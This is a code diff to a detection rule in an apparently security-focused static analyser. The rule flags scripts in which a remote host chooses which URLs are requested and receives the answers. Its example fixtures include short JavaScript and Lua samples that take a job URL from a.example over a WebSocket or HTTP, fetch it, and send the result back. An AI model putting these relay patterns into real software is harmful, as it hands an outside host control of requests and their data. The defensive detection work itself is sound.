@@ -1,4 +1,5 @@
-import { originsOf, originsWithin } from '#analysis/flow/heap.ts'
+import type { Event } from '#analysis/flow/events.ts'
+import { fieldOf, originsOf, originsWithin } from '#analysis/flow/heap.ts'
 import { has, nothing, origin, startOf, type Value } from '#analysis/flow/value.ts'
 import { actKinds, actOf } from './acts.ts'
 import { hostsIn } from './hosts.ts'
@@ -10,9 +11,16 @@ const byHosts = new Set(['gift', 'right', 'drops-all', 'deletes', 'stops', 'job'
 const isMaybeOwnFile = (path: Value): boolean =>
   startOf(path) === '' && (originsOf(path) & (origin.http | origin.web | origin.event | origin.decoded)) === 0
 
+/** A request to an address that another host names. */
+function isNamedByHost({ named, values }: Event): boolean {
+  const [first = nothing] = values
+  const url = named.url?.objects ? (fieldOf(named.url, 'url') ?? nothing) : (named.url ?? first)
+  return has(url, origin.http) && startOf(url) === '' && !url.objects
+}
+
 export const remoteSwitch = defineRule({
   id: 'remote-switch',
-  on: [...actKinds, 'compares', 'reads-key', 'http'],
+  on: [...actKinds, 'compares', 'reads-key', 'http', 'sends-more'],
   test: (event, program) => {
     const { kind, values, object, file, name } = event
     if (kind === 'reads-key')
@@ -22,6 +30,15 @@ export const remoteSwitch = defineRule({
         file.side === 'server'
         ? medium('another host names a player')
         : undefined
+    if (kind === 'sends-more' || kind === 'http') {
+      const answer = kind === 'http' ? values.slice(1) : object?.refs?.includes('#response') ? values : []
+      const isAnswer =
+        answer.some((value) => (originsWithin(value) & origin.http) !== 0) &&
+        (kind === 'sends-more' || program.isForeign(event))
+      if (isAnswer && program.of(file, 'http').some((other) => other !== event && isNamedByHost(other)))
+        return medium('another host chooses what is requested, and gets the answer')
+    }
+    if (kind === 'sends-more') return undefined
     if (kind === 'http' && file.side === 'page') {
       const [url = nothing] = values
       if (
@@ -59,6 +76,20 @@ export const remoteSwitch = defineRule({
   },
   examples: {
     found: [
+      js(
+        `const socket = new WebSocket('wss://a.example')
+socket.onmessage = async ({ data }) => {
+  const job = JSON.parse(data)
+  const answer = await fetch(job.url, { headers: job.headers })
+^ socket.send(await answer.text())
+}`,
+        'page',
+      ),
+      lua(`PerformHttpRequest('https://a.example/job', function(_, body)
+  PerformHttpRequest(json.decode(body).url, function(_, text)
+^   PerformHttpRequest('https://a.example/done', print, 'POST', text)
+  end)
+end)`),
       lua(`local staff = {}
 PerformHttpRequest('https://a.example', function(_, body) staff = json.decode(body) end)
 RegisterCommand('menu', function(player)
@@ -122,6 +153,17 @@ end)`),
       ),
     ],
     notFound: [
+      js(
+        `const socket = new WebSocket('wss://a.example')
+socket.onmessage = async ({ data }) => {
+  const answer = await fetch('https://b.example/names')
+  socket.send(JSON.stringify({ id: JSON.parse(data).id, names: await answer.text() }))
+}`,
+        'page',
+      ),
+      lua(`PerformHttpRequest('https://a.example/job', function(_, body)
+  PerformHttpRequest(json.decode(body).url, function(_, text) print(text) end)
+end)`),
       lua(`PerformHttpRequest('https://a.example', function(_, body) names = json.decode(body) end)
 RegisterCommand('menu', function(player) print(names[player]) end)`),
       js(`setInterval(async () => {
